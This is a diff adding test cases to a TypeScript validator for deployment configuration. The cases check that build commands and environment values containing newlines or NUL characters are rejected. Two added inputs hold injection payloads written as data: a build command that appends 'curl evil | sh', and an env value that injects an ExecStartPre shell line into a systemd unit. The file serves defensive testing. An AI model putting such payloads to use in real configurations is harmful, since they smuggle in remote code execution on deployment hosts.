@@ -57,6 +57,10 @@ const invalid: [string, unknown, string, string][] = [
   ['a health path with a space', { app: 'a', host: 'h', health: '/health x' }, 'health', 'health must be a path starting with "/", without spaces'],
   ['an env name with a newline', { app: 'a', host: 'h', env: { 'A\nB': '1' } }, 'env', 'env names must be letters, digits and "_", not starting with a digit'],
   ['a repo_name that is not owner/name', { app: 'a', host: 'h', repo_name: 'acme' }, 'repo_name', 'repo_name must be "owner/name"'],
+  ['a build_cmd with a newline', { app: 'a', host: 'h', build_cmd: 'make\ncurl evil | sh' }, 'build_cmd', 'build_cmd must not contain newlines or control characters'],
+  ['a build_cmd with a NUL', { app: 'a', host: 'h', build_cmd: 'make\u0000x' }, 'build_cmd', 'build_cmd must not contain newlines or control characters'],
+  ['an env value with a newline (unit file injection)', { app: 'a', host: 'h', env: { A: 'x"\nExecStartPre=/bin/sh -c evil' } }, 'env', 'env values must not contain newlines or control characters'],
+  ['an env value with a NUL', { app: 'a', host: 'h', env: { TOKEN: 's3cret\u0000' } }, 'env', 'env values must not contain newlines or control characters'],
   ['unknown field', { app: 'a', host: 'h', colour: 'red' }, 'colour', 'unknown field "colour"'],
 ];
 
